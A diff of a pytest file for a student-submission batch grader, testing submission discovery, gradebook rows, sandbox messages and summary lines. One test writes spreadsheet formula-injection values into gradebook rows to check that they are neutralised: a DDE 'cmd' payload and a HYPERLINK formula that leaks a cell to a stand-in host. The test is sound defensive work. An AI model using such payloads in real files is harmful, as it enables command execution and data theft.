@@ -1,4 +1,5 @@
-"""Batch grading of a class and the checks' fingerprint."""
+"""Batch grading of a class (what counts as a submission, what each grader ends with, the gradebook) and the
+checks' fingerprint."""
 
 from __future__ import annotations
 
@@ -15,7 +16,10 @@ from pathlib import Path
 import pytest
 
 from checks import batch
-from checks.batch import Graded, find_submissions, grade_all, grade_one, validated, write_gradebook
+from checks.tools import grading, submissions, validation
+from checks.tools.gradebook import Row, grade_all, grade_one, write_gradebook
+from checks.tools.submissions import find_class, find_project
+from checks.tools.validation import validated
 from checks.fingerprint import fingerprint, published
 from checks.reports.scorecard import MESSAGE_CAP
 from tests.conftest import GRADED_IDS, ROOT
@@ -70,7 +74,7 @@ def test_misbehaving_submissions_are_reported_as_such(graded_class) -> None:
     assert "exit" in results["exits_itself"].note
     assert "did not finish" in results["sleeps_forever"].note or "time limit" in results["sleeps_forever"].note
     memory = results["eats_memory"].note
-    assert "MemoryError" in memory or memory == batch.OUT_OF_MEMORY.format(mib=1024)
+    assert "MemoryError" in memory or memory == grading.OUT_OF_MEMORY.format(mib=1024)
     assert all(results[n].total == 0 for n in ("carol", "exits_itself", "sleeps_forever", "eats_memory"))
 
 
@@ -150,16 +154,16 @@ def test_a_report_keeps_only_so_much() -> None:
     report, note = validated(long)
     messages = [c["message"] for i in report["items"] for c in i["checks"]]
     assert note == "" and max(len(m) for m in messages) == MESSAGE_CAP + len(" [...]")
-    assert sum(map(len, messages)) < batch.REPORT_MESSAGES_CAP + 10 * len(messages)
-    assert max(len(c["name"]) for i in report["items"] for c in i["checks"]) <= batch.NAME_CAP + len(" [...]")
+    assert sum(map(len, messages)) < validation.REPORT_MESSAGES_CAP + 10 * len(messages)
+    assert max(len(c["name"]) for i in report["items"] for c in i["checks"]) <= validation.NAME_CAP + len(" [...]")
 
 
 def test_the_gradebook_cannot_carry_a_formula(tmp_path: Path) -> None:
     scored, _ = validated(honest())
     rows = [
-        Graded("=cmd|' /C calc'!A0", None, note='=HYPERLINK("http://evil.test/?leak="&A1, "click")'),
-        Graded("bob", scored, note="-2+3\nsecond line", explain="@SUM(A1:A9)", scores={"base": 20}),
-        Graded("carol", None, note="\tTAB first", explain="+1"),
+        Row("=cmd|' /C calc'!A0", None, note='=HYPERLINK("http://evil.test/?leak="&A1, "click")'),
+        Row("bob", scored, note="-2+3\nsecond line", explain="@SUM(A1:A9)", scores={"base": 20}),
+        Row("carol", None, note="\tTAB first", explain="+1"),
     ]
     write_gradebook(rows, tmp_path)
     with open(tmp_path / "gradebook.csv", newline="", encoding="utf-8") as sheet:
@@ -208,10 +212,145 @@ def test_the_output_folder_and_shared_names_are_handled(tmp_path: Path) -> None:
     for path in ("results/project.py", "grades/project.py", "alice/project.py", "alice.py", "bob/project.py"):
         (tmp_path / path).parent.mkdir(exist_ok=True)
         (tmp_path / path).write_text("")
-    found = find_submissions(tmp_path, skip=tmp_path / "results")
-    assert [(name, path.relative_to(tmp_path).as_posix()) for name, path in found] == [
+    found, passed_over = find_class(tmp_path, skip=tmp_path / "results")
+    assert [(s.name, "/".join(s.project)) for s in found] == [
         ("alice", "alice.py"), ("alice~2", "alice/project.py"), ("bob", "bob/project.py"),
     ]
+    # this run's output folder goes unsaid; one merely named like the default is passed over out loud
+    assert passed_over == [f"grades/ ({submissions.OUTPUT_NAME})"]
+
+
+# -- What counts as a submission: one rule for every entry, shared with the platforms ------------------
+
+HANDED_IN = {
+    # As a class really hands in: the reference where it belongs, the whole repository, the wrong case, a
+    # loose file, a folder with no Python at all and one with two Python files but no project.py.
+    "ivy/project.py": "solutions/project.py",
+    "ivy/ANSWERS.md": "solutions/ANSWERS.md",
+    "bob/starter/project.py": "starter/project.py",
+    "bob/README.md": "# my fork\n",
+    "carol/Project.py": "scenario:syntax_error",  # a file that does not import grades in a second
+    "dave.py": "scenario:syntax_error",
+    "erin/README.md": "I could not get it to work\n",
+    "erin/notes.txt": "...\n",
+    "frank/a.py": "print('a')\n",
+    "frank/b.py": "print('b')\n",
+    ".DS_Store": "",
+}
+
+
+@pytest.fixture(scope="module")
+def handed_in(tmp_path_factory, scenario_file) -> tuple[Path, list[str], dict[str, dict[str, str]]]:
+    """The class above through `python -m checks.batch DIR --in-process` (the sandbox is not what is tested
+    here): its output lines and its gradebook's rows. Four real gradings, two of them files that do not import."""
+    folder = tmp_path_factory.mktemp("handed-in")
+    for target, source in HANDED_IN.items():
+        path = folder / target
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if source.startswith("scenario:"):
+            shutil.copy(scenario_file(source.removeprefix("scenario:")), path)
+        elif "/" in source:
+            shutil.copy(ROOT / source, path)
+        else:
+            path.write_text(source)
+    output = subprocess.run([sys.executable, "-m", "checks.batch", str(folder), "--in-process", "--jobs", "2"],
+                            cwd=ROOT, capture_output=True, text=True, timeout=280)
+    assert output.returncode == 0, output.stdout + output.stderr
+    with open(folder / "grades" / "gradebook.csv", newline="") as sheet:
+        rows = {row["submission"]: row for row in csv.DictReader(sheet)}
+    return folder, output.stdout.splitlines(), rows
+
+
+def test_every_entry_of_a_class_gets_a_row_that_says_what_was_graded(handed_in) -> None:
+    _, lines, rows = handed_in
+    assert list(rows) == ["dave", "bob", "carol", "erin", "frank", "ivy"]
+    assert rows["ivy"]["total"] == "100" and rows["ivy"]["notes"] == ""
+    assert rows["bob"]["total"] == "20" and rows["bob"]["notes"] == "graded bob/starter/project.py"
+    assert rows["carol"]["notes"].startswith("graded carol/Project.py; ") and "SyntaxError" in rows["carol"]["notes"]
+    assert "SyntaxError" in rows["dave"]["notes"] and not rows["dave"]["notes"].startswith("graded")
+    assert rows["erin"]["notes"] == "no project.py: the folder holds README.md, notes.txt"
+    assert rows["frank"]["notes"] == submissions.MANY_PYTHON.format(count=2, files="a.py, b.py")
+    assert {rows[name]["total"] for name in ("carol", "dave", "erin", "frank")} == {"0"}
+    assert lines[1] == "Not submissions, so no rows: .DS_Store (hidden)."
+    assert sum(line.startswith("[") for line in lines) == 6
+    assert lines[-1].startswith("6 submissions in ") and ": 4 graded, 2 with nothing to grade. Gradebook: " in lines[-1]
+
+
+def test_the_platform_finder_picks_the_file_the_batch_grades(handed_in) -> None:
+    """Gradescope and PrairieLearn see one student's folder as the batch sees that student's entry."""
+    folder, _, _ = handed_in
+    for submission in find_class(folder)[0]:
+        if (folder / submission.name).is_dir():
+            found = find_project(folder / submission.name)
+            assert _under(submission.name, found.project) == submission.project, submission
+            assert _under(submission.name, found.answers) == submission.answers, submission
+    assert find_project(folder / "bob").note == "graded starter/project.py"
+
+
+def _under(name: str, path: tuple[str, ...] | None) -> tuple[str, ...] | None:
+    return None if path is None else (name, *path)
+
+
+def _tree(folder: Path, *paths: str) -> Path:
+    for path in paths:
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text("")
+    return folder
+
+
+def test_the_shallowest_project_py_wins_and_a_tie_is_broken_by_spelling_then_name(tmp_path: Path) -> None:
+    _tree(tmp_path, "deep/er/project.py", "b/PROJECT.py", "a/Project.py", "c/project.py", "c/answers.md", "ANSWERS.md")
+    found = find_project(tmp_path, "kim")
+    assert found.project == ("c", "project.py") and found.answers == ("c", "answers.md")
+    assert found.note == "graded kim/c/project.py, the first of 3 at that depth (also kim/a/Project.py, kim/b/PROJECT.py)"
+
+
+def test_hidden_and_tool_folders_are_not_searched_and_a_lone_python_file_is_graded(tmp_path: Path) -> None:
+    _tree(tmp_path, "__MACOSX/._project.py", ".git/project.py", ".ipynb_checkpoints/project-checkpoint.py",
+          "week3/main.py", "ANSWERS.md", "notes.txt")
+    found = find_project(tmp_path)
+    assert found.project == ("week3", "main.py") and found.answers == ("ANSWERS.md",)
+    assert found.note == "graded week3/main.py: no project.py, and it is the only Python file"
+
+
+def test_a_folder_with_nothing_to_grade_says_what_it_holds(tmp_path: Path, monkeypatch) -> None:
+    assert find_project(_tree(tmp_path / "empty")).note == submissions.EMPTY
+    many = _tree(tmp_path / "many", *(f"page{n}.html" for n in range(7)))
+    assert find_project(many) == submissions.Found(None, note="no project.py: the folder holds page0.html, "
+                                                   "page1.html, page2.html, page3.html, page4.html and 2 more")
+    monkeypatch.setattr(submissions, "SEARCH_CAP", 3)
+    assert find_project(many).note.endswith(" (only the first 3 entries were searched)")
+
+
+def test_loose_files_that_are_not_python_get_a_row_and_keep_names_apart(tmp_path: Path) -> None:
+    _tree(tmp_path, "gina.zip", "gina/README.md", "hal.PY")
+    found, _ = find_class(tmp_path)
+    assert [(s.name, s.project, s.note) for s in found] == [
+        ("hal", ("hal.PY",), ""),
+        ("gina", None, "no project.py: the folder holds README.md"),
+        ("gina.zip", None, submissions.NOT_A_FOLDER),
+    ]
+
+
+def test_the_last_line_counts_every_kind_of_row_and_one_submission_is_singular() -> None:
+    graded, _ = validated(honest())
+    rows = [Row("ann", graded, scores={"base": 20}), Row("ben", None, "no project.py", found=False),
+            Row("cy", None, "refused: cy is a symbolic link")]
+    assert batch.summary(rows[:1], 60, 2, Path("g.csv")) == (
+        "1 submission in 60 s (1.0 per minute) with --jobs 2: 1 graded. Gradebook: g.csv")
+    assert batch.summary(rows, 60, 1, Path("g.csv")).startswith(
+        "3 submissions in 60 s (3.0 per minute) with --jobs 1: 1 graded, 1 with nothing to grade, 1 not graded")
+
+
+def test_a_python_without_the_graders_libraries_stops_the_batch_in_one_line(tmp_path: Path, monkeypatch, capsys) -> None:
+    from checks.tools import preflight
+
+    (tmp_path / "ann.py").write_text("")
+    monkeypatch.setattr(preflight, "NEEDED", (*preflight.NEEDED, "no_such_library_here"))
+    assert batch.main([str(tmp_path), "--in-process"]) == 2
+    said = capsys.readouterr()
+    assert said.out == "" and len(said.err.splitlines()) == 1 and "no_such_library_here" in said.err
+    assert "pip install -r requirements.txt" in said.err and not (tmp_path / "grades").exists()
 
 
 # -- What a grader ends with (a stand-in grader: no student code runs) -------------------------------
@@ -221,14 +360,15 @@ def _fake(mode: str, record: Path) -> list[str]:
     return [sys.executable, str(FAKE_GRADER), mode, str(record)]
 
 
-def _one(tmp_path: Path, mode: str, **options) -> tuple[Graded, dict]:
+def _one(tmp_path: Path, mode: str, **options) -> tuple[Row, dict]:
     """Grade a folder submission with the stand-in grader in `mode`; the row, and what the stand-in was given."""
     (tmp_path / "class" / "alice").mkdir(parents=True, exist_ok=True)
     shutil.copy(ROOT / "solutions" / "project.py", tmp_path / "class" / "alice" / "project.py")
     shutil.copy(ROOT / "solutions" / "ANSWERS.md", tmp_path / "class" / "alice" / "ANSWERS.md")
     record = tmp_path / f"{mode}.json"
-    graded = grade_one("alice", tmp_path / "class" / "alice" / "project.py", tmp_path / "out",
-                       root=tmp_path / "class", grader=_fake(mode, record), **options)
+    alice = tmp_path / "class" / "alice"
+    graded = grade_one("alice", alice / "project.py", tmp_path / "out", root=tmp_path / "class",
+                       answers=alice / "ANSWERS.md", grader=_fake(mode, record), **options)
     return graded, json.loads(record.read_text()) if record.exists() else {}
 
 
@@ -300,7 +440,8 @@ def test_a_stopped_batch_stops_its_graders(tmp_path: Path) -> None:
     (tmp_path / "class").mkdir()
     (tmp_path / "class" / "ann.py").write_text("")
     record = tmp_path / "seen.json"
-    script = (f"import sys; from checks import batch; batch.GRADER = {tuple(_fake('sleep', record))!r}; "
+    script = (f"import sys; from checks import batch; from checks.tools import grading; "
+              f"grading.GRADER = {tuple(_fake('sleep', record))!r}; "
               f"sys.exit(batch.main([{str(tmp_path / 'class')!r}, '--in-process', '--time-limit', '100']))")
     process = subprocess.Popen([sys.executable, "-c", script], cwd=ROOT, stdout=subprocess.DEVNULL)
     try:
@@ -333,7 +474,7 @@ def test_every_row_is_written_whatever_the_graders_do(tmp_path: Path) -> None:
 
 def test_the_first_line_says_whether_submissions_run_sandboxed(tmp_path: Path, monkeypatch, capsys) -> None:
     (tmp_path / "ann.py").write_text("")
-    monkeypatch.setattr(batch, "GRADER", tuple(_fake("honest", tmp_path / "seen.json")))
+    monkeypatch.setattr(grading, "GRADER", tuple(_fake("honest", tmp_path / "seen.json")))
     monkeypatch.setattr(batch.sandbox, "available", lambda: (False, "not Linux (testing)"))
     assert batch.main([str(tmp_path), "--require-sandbox"]) == 2
     refused = capsys.readouterr()
@@ -341,7 +482,8 @@ def test_the_first_line_says_whether_submissions_run_sandboxed(tmp_path: Path, m
     assert batch.main([str(tmp_path)]) == 0
     lines = capsys.readouterr().out.splitlines()
     assert lines[0].startswith("Sandbox: OFF (not Linux (testing)). Each submission still runs in its own worker")
-    assert lines[1].startswith("[1/1] ann") and "100/100" in lines[1] and lines[2].startswith("Graded 1 submissions")
+    assert lines[1].startswith("[1/1] ann") and "100/100" in lines[1]
+    assert lines[2].startswith("1 submission in ") and ": 1 graded. Gradebook: " in lines[2]
     assert batch.main([str(tmp_path), "--in-process"]) == 0
     assert capsys.readouterr().out.startswith("Sandbox: OFF (--in-process)")
     monkeypatch.setattr(batch.sandbox, "available", lambda: (True, "bubblewrap: testing"))
